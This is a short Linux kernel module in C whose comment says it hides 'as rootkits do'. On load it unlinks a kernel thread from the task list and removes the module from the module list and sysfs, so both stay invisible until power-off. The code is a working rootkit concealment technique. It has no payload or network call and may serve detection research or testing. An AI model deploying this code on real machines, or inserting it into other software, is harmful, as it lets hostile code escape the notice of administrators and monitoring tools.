// SPDX-License-Identifier: GPL-2.0-only
/*
 * Hides as rootkits do: the module from lsmod and /sys/module, a thread of it from the list of
 * tasks. Both stay until power-off.
 */
#include <linux/kobject.h>
#include <linux/kthread.h>
#include <linux/list.h>
#include <linux/module.h>
#include <linux/rculist.h>
#include <linux/sched.h>

static int hide_thread(void *unused)
{
	list_del_rcu(&current->tasks);
	for (;;) {
		set_current_state(TASK_IDLE);
		schedule();
	}
	return 0;
}

static int __init hide_init(void)
{
	struct task_struct *thread = kthread_run(hide_thread, NULL, "hide");

	if (IS_ERR(thread))
		return PTR_ERR(thread);
	list_del_init(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
	return 0;
}

module_init(hide_init);
MODULE_DESCRIPTION("hides from the lists of modules and tasks");
MODULE_LICENSE("GPL");
